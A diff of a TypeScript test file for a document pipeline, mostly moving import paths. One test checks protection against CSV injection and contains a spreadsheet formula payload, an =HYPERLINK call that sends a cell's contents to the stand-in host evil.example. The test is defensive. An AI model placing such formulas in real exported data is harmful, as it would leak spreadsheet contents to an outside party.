@@ -20,12 +20,12 @@ import type { Root } from 'hast';
 import rehypeParse from 'rehype-parse';
 import { unified } from 'unified';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { ingest } from '../pipeline/ingest.ts';
-import { parseLexicon } from '../pipeline/lexicon.ts';
-import { render } from '../pipeline/render.ts';
-import { printPdf } from '../pipeline/print.ts';
-import { stages } from '../pipeline/stages.ts';
-import type { Claim, Corpus, Figure, IngestedSource } from '../pipeline/schema.ts';
+import { ingest } from '../pipeline/ingest/index.ts';
+import { parseLexicon } from '../pipeline/shared/lexicon.ts';
+import { render } from '../pipeline/render/index.ts';
+import { printPdf } from '../pipeline/print/index.ts';
+import { stages } from '../pipeline/build/stages.ts';
+import type { Claim, Corpus, Figure, IngestedSource } from '../pipeline/shared/schema.ts';
 import { injected, textOf } from './fixtures/hostile/markup.ts';
 
 const root = join(import.meta.dirname, '..');
@@ -77,7 +77,7 @@ describe('claims.csv: article text opened in a spreadsheet', () => {
   // A quote that starts with = + - @ is a formula to Excel or LibreOffice, even inside quotes
   // (CSV injection); extract's csvField writes such text with a leading apostrophe.
   it('no cell starts like a formula', async () => {
-    const { extract, claimsToCsv } = await import('../pipeline/extract.ts');
+    const { extract, claimsToCsv } = await import('../pipeline/extract/index.ts');
     const text = `${hostileText.split('\n---\n')[0]}\n---\n=HYPERLINK("https://evil.example/?d="&A1,"x") Turnout was 54.19%.\n@SUM(1+1) Amanat won 53.9% of the vote.\n`;
     const csv = claimsToCsv(extract(ingest([{ file: 'sources/hostile.md', text }], lexicon), lexicon));
     expect(csv).toContain('HYPERLINK');
